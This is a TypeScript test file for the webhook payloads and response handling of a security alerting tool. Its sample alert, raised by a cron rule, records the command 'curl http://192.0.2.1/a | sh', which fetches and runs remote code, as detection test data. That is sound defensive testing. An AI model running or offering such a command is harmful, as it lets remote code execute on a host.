import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { alertOf, hostileTellings, tellingOf } from '../../test/alert.ts'
import { testSettings } from '../../test/world.ts'
import type { Telling } from './telling.ts'
import { WEBHOOK_BODY_MAX_BYTES, webhook, webhookBodies } from './webhook.ts'

const SECRET = 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw'
const NOW = Date.UTC(2026, 10, 24, 12)
const bytesOf = (text: string) => new TextEncoder().encode(text).length

function bodiesOf(overrides: Partial<Telling> = {}) {
  const texts = webhookBodies(tellingOf({ deliveryId: 'a1b2c3.soar.trigger', ...overrides }))
  return texts.map(text => JSON.parse(text))
}

describe('the body of a webhook', () => {
  it('says what happened, with its version', () => {
    expect(bodiesOf()[0]).toEqual({
      version: 1,
      type: 'alert.triggered',
      news: null,
      timestamp: '2026-11-24T12:00:00.000Z',
      delivery_id: 'a1b2c3.soar.trigger',
      test: false,
      data: {
        alert: {
          id: 'a1b2c3',
          kind: 'match',
          rule_id: 'posix.cron-fetches-code',
          severity: 'high',
          status: 'open',
          status_by: '',
          title: 'Cron fetches code',
          host: { id: 'host-1', name: 'web-1.example.com' },
          query: 'crontab',
          pack: 'incident-response',
          event_count: 3,
          first_event_at: '2026-11-24T12:00:00.000Z',
          last_event_at: '2026-11-24T12:01:00.000Z',
          runbook: 'Read the file the job came from.',
          url: 'https://margay.example.com/alerts/a1b2c3',
        },
        columns: { command: 'curl http://192.0.2.1/a | sh' },
        rule: null,
        hosts: null,
        truncated: false,
        context: { command: 'curl' },
      },
    })
  })

  it.each([
    ['acknowledge', 'alert.acknowledged', '2026-11-24T12:02:00.000Z'],
    ['resolve', 'alert.resolved', '2026-11-24T12:03:00.000Z'],
    ['update', 'alert.updated', '2026-11-24T12:04:00.000Z'],
  ] as const)('of %s says %s and when that was, without what matched', (action, type, timestamp) => {
    const alert = alertOf({
      acknowledgedAt: NOW + 120_000,
      resolvedAt: NOW + 180_000,
      updatedAt: NOW + 240_000,
      status: 'resolved',
      statusBy: 'ada',
    })
    const [body] = bodiesOf({ action, alert })
    expect(body).toMatchObject({
      type,
      timestamp,
      data: { columns: null, context: null, rule: null, truncated: false },
    })
    expect(body.data.alert).toMatchObject({ status: 'resolved', status_by: 'ada', event_count: 3 })
  })

  it('of an alert that opened again says when that was', () => {
    const [body] = bodiesOf({ alert: alertOf({ openedAt: NOW + 60_000 }) })
    expect(body).toMatchObject({ type: 'alert.triggered', timestamp: '2026-11-24T12:01:00.000Z' })
  })

  it('names no host when none is concerned, and no address when there is none', () => {
    const [body] = bodiesOf({
      alert: alertOf({ kind: 'system', hostId: null, hostname: '' }),
      publicUrl: null,
    })
    expect(body.data.alert).toMatchObject({ host: null, url: null })
  })

  it('tells what its rule says, and whom it concerns when these are several', () => {
    const rule = {
      means: 'Code runs.',
      check: 'SELECT 1',
      benign: 'Updates.',
      references: ['https://example.com/'],
    }
    expect(bodiesOf({ rule, hosts: ['web-1', 'web-2'] })[0].data).toMatchObject({
      rule,
      hosts: ['web-1', 'web-2'],
    })
  })

  it('says that it is a test', () => {
    const [body] = bodiesOf({ alert: alertOf({ kind: 'system', ruleId: 'margay.test' }) })
    expect(body.test).toBe(true)
    expect(bodiesOf({ alert: alertOf({ ruleId: 'margay.test' }) })[0].test).toBe(false)
  })

  it('loses its context first, then what is long in its columns, and says so', () => {
    const large = { columns: { a: 'x'.repeat(100), b: 'y'.repeat(100) } }
    const [withoutContext] = bodiesOf({
      ...large,
      alert: alertOf({ context: `{"a":"${'x'.repeat(30_000)}"}` }),
    })
    expect(withoutContext.data).toMatchObject({ ...large, context: null, truncated: true })
    const [shortened] = bodiesOf({ columns: { a: 'x'.repeat(30_000), b: 'y' } })
    expect([...shortened.data.columns.a]).toHaveLength(48)
    expect(shortened.data).toMatchObject({ columns: { b: 'y' }, truncated: true })
  })

  it('keeps a column named __proto__', () => {
    const columns = JSON.parse(`{"__proto__":"${'x'.repeat(30_000)}","a":"b"}`)
    const [short] = webhookBodies(tellingOf({ columns }))
    expect(short).toContain('"__proto__":"xxx')
  })

  it('is below 20 KB, and JSON, whatever the alert holds', () => {
    fc.assert(
      fc.property(hostileTellings, telling => {
        for (const body of webhookBodies(telling)) {
          expect(bytesOf(body)).toBeLessThanOrEqual(WEBHOOK_BODY_MAX_BYTES)
          expect(body.isWellFormed()).toBe(true)
          const { version, type, data } = JSON.parse(body)
          expect([version, type.startsWith('alert.'), data.alert.id]).toEqual([
            1,
            true,
            telling.alert.alertId,
          ])
        }
      }),
      { numRuns: 150 },
    )
  })

  it('is small in its last form even when every text is as long as JSON can make it', () => {
    const worst = '\u{1f408}'.repeat(5_000)
    const controls = '\u0001'.repeat(5_000)
    const alert = alertOf({
      title: worst,
      ruleId: worst,
      hostId: worst,
      hostname: worst,
      query: worst,
      pack: worst,
      statusBy: worst,
      runbook: controls,
    })
    const publicUrl = `https://${'margay.'.repeat(35)}example.com`
    const bodies = webhookBodies(tellingOf({ alert, publicUrl, columns: { [controls]: controls } }))
    for (const body of bodies) expect(bytesOf(body)).toBeLessThanOrEqual(WEBHOOK_BODY_MAX_BYTES)
  })
})

describe('the answer to a webhook', () => {
  const target = webhook(
    testSettings({ webhookUrl: 'https://soar.example.com/in', webhookSecrets: [SECRET] }),
  )

  it.each([
    [200, 'delivered'],
    [204, 'delivered'],
    [299, 'delivered'],
    [301, 'broken'],
    [307, 'broken'],
    [308, 'broken'],
    [400, 'rejected'],
    [401, 'broken'],
    [410, 'broken'],
    [413, 'rejected'],
    [429, 'transient'],
    [500, 'transient'],
    [502, 'transient'],
    [504, 'transient'],
  ])('%i means %s, whatever its body says', (status, kind) => {
    if (!target.ok) throw new Error(target.missing)
    for (const body of ['', 'ok', '{"ok":false}']) {
      expect(target.classify(status, null, body, NOW).kind).toBe(kind)
    }
  })
})
